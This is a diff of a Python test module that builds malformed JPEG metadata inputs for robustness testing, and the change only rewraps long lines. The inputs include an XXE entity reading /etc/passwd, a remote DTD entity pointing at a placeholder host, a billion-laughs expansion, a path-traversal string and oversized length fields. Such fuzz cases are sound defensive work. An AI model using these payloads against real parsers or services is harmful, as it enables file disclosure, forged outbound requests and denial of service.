@@ -47,7 +47,10 @@ def of_segments() -> Attacks:
     yield "jpeg_nothing_but_start", b"\xff\xd8"
     yield "jpeg_start_and_end", b"\xff\xd8\xff\xd9"
     yield "jpeg_500_exif_segments", jpeg(exif(tiff(directory([]))) * 500)
-    yield "jpeg_size_0x0", jpeg().replace(b"\xff\xc0\0\x0b\x08\0\x08\0\x08", b"\xff\xc0\0\x0b\x08\0\0\0\0")
+    yield (
+        "jpeg_size_0x0",
+        jpeg().replace(b"\xff\xc0\0\x0b\x08\0\x08\0\x08", b"\xff\xc0\0\x0b\x08\0\0\0\0"),
+    )
     yield "jpeg_size_65535", jpeg().replace(b"\x08\0\x08\0\x08\1", b"\x08\xff\xff\xff\xff\1")
     yield "jpeg_comment_of_controls", jpeg(segment(0xFE, bytes(range(256)) * 200))
     yield "jpeg_appended_50_mb_hole", jpeg() + bytes(50 << 20)
@@ -56,11 +59,21 @@ def of_segments() -> Attacks:
     yield "jpeg_mpf_points_at_itself", jpeg(segment(0xE2, b"MPF\0" + mpf(2, 0)))
     yield "jpeg_flashpix_counts", jpeg(segment(0xE2, b"FPXR\0\0\1\xff\xff" + bytes(60)) * 50)
     yield "jpeg_c2pa_box_of_zero", jpeg(segment(0xEB, b"JP\0\1\0\0\0\1\0\0\0\0jumb"))
-    yield "jpeg_c2pa_box_of_4_gb", jpeg(segment(0xEB, b"JP\0\1\0\0\0\1\xff\xff\xff\xffjumb" + bytes(30)))
+    yield (
+        "jpeg_c2pa_box_of_4_gb",
+        jpeg(segment(0xEB, b"JP\0\1\0\0\0\1\xff\xff\xff\xffjumb" + bytes(30))),
+    )
     yield from cuts("jpeg", jpeg(exif(tiff(described(b"A tram\0"))), end=b"\xff\xd9"), *STRUCTURES)
 
 
-STRUCTURES = (b"Exif\0\0", b"II*\0", b"A tram\0", b"\xff\xdb\0C", b"\xff\xc0\0\x0b", b"\xff\xda\0\x08")
+STRUCTURES = (
+    b"Exif\0\0",
+    b"II*\0",
+    b"A tram\0",
+    b"\xff\xdb\0C",
+    b"\xff\xc0\0\x0b",
+    b"\xff\xda\0\x08",
+)
 
 
 def described(text: bytes, count: int | None = None, at: int = 26) -> bytes:
@@ -72,7 +85,9 @@ def described(text: bytes, count: int | None = None, at: int = 26) -> bytes:
 def mpf(size: int, offset: int) -> bytes:
     """Write an index of two pictures in one file."""
     entries = struct.pack("<IIIHH", 0x030000, size, offset, 0, 0) * 2
-    return tiff(directory([(0xB001, LONG, 1, long(2)), (0xB002, UNDEFINED, 32, long(38))]), tail=entries)
+    return tiff(
+        directory([(0xB001, LONG, 1, long(2)), (0xB002, UNDEFINED, 32, long(38))]), tail=entries
+    )
 
 
 def of_exif() -> Attacks:
@@ -90,9 +105,16 @@ def of_exif() -> Attacks:
     yield "exif_1000_tags_over_the_whole", jpeg(exif(tiff(directory(huge), tail=bytes(40_000))))
     for name, maker in zip(NOTES, MAKERS, strict=True):
         for count in (5, 0xFFFF):
-            yield f"exif_maker_note_{name}_{count}", jpeg(exif(maker_note(maker, NOTES[name], count)))
+            yield (
+                f"exif_maker_note_{name}_{count}",
+                jpeg(exif(maker_note(maker, NOTES[name], count))),
+            )
     coords = struct.pack("<6I", 22, 0, 16, 0, 0xFFFFFFFF, 0)
-    for name, value in (("zero_denominators", coords), ("all_zero", bytes(24)), ("ones", b"\xff" * 24)):
+    for name, value in (
+        ("zero_denominators", coords),
+        ("all_zero", bytes(24)),
+        ("ones", b"\xff" * 24),
+    ):
         yield f"exif_gps_{name}", jpeg(exif(gps(value)))
     yield "exif_gps_nan", jpeg(exif(gps(struct.pack("<3d", *[float("nan")] * 3), kind=12)))
     yield "exif_gps_infinite", jpeg(exif(gps(struct.pack("<3d", *[float("inf")] * 3), kind=12)))
@@ -146,9 +168,15 @@ def of_blocks() -> Attacks:
     for length in (0, 0x7FFFFFFF, 0xFFFFFFFF):
         yield f"photoshop_length_{length}", jpeg(photoshop(resource(0x0404, b"x", length=length)))
     yield "photoshop_5000_resources", jpeg(photoshop(*[resource(0x0404, b"")] * 5000))
-    yield "photoshop_name_overlong", jpeg(photoshop(resource(0x0404, b"ab", name=b"\xff" + b"n" * 20)))
+    yield (
+        "photoshop_name_overlong",
+        jpeg(photoshop(resource(0x0404, b"ab", name=b"\xff" + b"n" * 20))),
+    )
     yield "iptc_10000_keywords", jpeg(photoshop(resource(0x0404, dataset(2, 25, b"") * 10_000)))
-    yield "iptc_length_beyond", jpeg(photoshop(resource(0x0404, dataset(2, 120, b"x", length=32767))))
+    yield (
+        "iptc_length_beyond",
+        jpeg(photoshop(resource(0x0404, dataset(2, 120, b"x", length=32767)))),
+    )
     extended = b"\x1c\2\x78\x80\4\xff\xff\xff\xff" + b"x" * 40
     yield "iptc_extended_length_4_gb", jpeg(photoshop(resource(0x0404, extended)))
     negative = b"\x1c\2\x78\xff\xff" + b"\xff" * 100
@@ -159,7 +187,9 @@ def of_blocks() -> Attacks:
     for count in (0, 255):
         body = b"ICC_PROFILE\0" + bytes((count, 1)) + b"\xff" * 60
         yield f"icc_part_{count}_of_1", jpeg(segment(0xE2, body))
-    profile = b"\xff\xff\xff\xff" + bytes(124) + b"\xff\xff\xff\xff" + b"desc\0\0\0\x84\xff\xff\xff\xff"
+    profile = (
+        b"\xff\xff\xff\xff" + bytes(124) + b"\xff\xff\xff\xff" + b"desc\0\0\0\x84\xff\xff\xff\xff"
+    )
     yield "icc_4_billion_tags", jpeg(segment(0xE2, b"ICC_PROFILE\0\1\1" + profile))
 
 
@@ -167,7 +197,8 @@ def of_xmp() -> Attacks:
     """Yield XMP that resolves, multiplies, nests or never ends."""
     entity = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
     yield "xmp_external_entity", jpeg(xmp(rdf(b"<dc:title>&e;</dc:title>", before=entity)))
-    remote = b"<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd' [<!ENTITY % p SYSTEM 'http://192.0.2.1/'> %p;]>"
+    there = b"'http://192.0.2.1/x.dtd'"
+    remote = b"<!DOCTYPE x SYSTEM " + there + b" [<!ENTITY % p SYSTEM " + there + b"> %p;]>"
     yield "xmp_remote_entity", jpeg(xmp(rdf(b"<dc:title>x</dc:title>", before=remote)))
     laughs = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
         b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
@@ -181,9 +212,15 @@ def of_xmp() -> Attacks:
     yield "xmp_3000_keywords", jpeg(xmp(rdf(b"<dc:subject>" + items + b"</dc:subject>")))
     yield "xmp_3000_attributes", jpeg(xmp(rdf(b"<q:a " + b"q:b='' " * 3000 + b"/>")))
     lang = b"".join(b"<rdf:li xml:lang='x-%d'>t</rdf:li>" % n for n in range(1000))
-    yield "xmp_1000_languages", jpeg(xmp(rdf(b"<dc:title><rdf:Alt>" + lang + b"</rdf:Alt></dc:title>")))
+    yield (
+        "xmp_1000_languages",
+        jpeg(xmp(rdf(b"<dc:title><rdf:Alt>" + lang + b"</rdf:Alt></dc:title>"))),
+    )
     yield "xmp_path_escape", jpeg(xmp(rdf(b"<dc:source>../../../../etc/passwd</dc:source>")))
-    yield "xmp_utf16_odd", jpeg(xmp(b"\xff\xfe" + rdf(b"<dc:title>t</dc:title>").decode().encode("utf-16-le")[:-1]))
+    yield (
+        "xmp_utf16_odd",
+        jpeg(xmp(b"\xff\xfe" + rdf(b"<dc:title>t</dc:title>").decode().encode("utf-16-le")[:-1])),
+    )
     yield "xmp_utf32", jpeg(xmp(rdf(b"<dc:title>t</dc:title>").decode().encode("utf-32")))
     yield "xmp_of_nul", jpeg(xmp(bytes(60_000)))
     yield "xmp_of_brackets", jpeg(xmp(b"<" * 60_000))
@@ -198,5 +235,7 @@ def of_xmp() -> Attacks:
 
 XMP_EXTENDED = b"http://ns.adobe.com/xmp/extension/\0"
 NOTED = rdf(
-    b"<n:HasExtendedXMP xmlns:n='http://ns.adobe.com/xmp/note/'>" + b"0" * 32 + b"</n:HasExtendedXMP>"
+    b"<n:HasExtendedXMP xmlns:n='http://ns.adobe.com/xmp/note/'>"
+    + b"0" * 32
+    + b"</n:HasExtendedXMP>"
 )
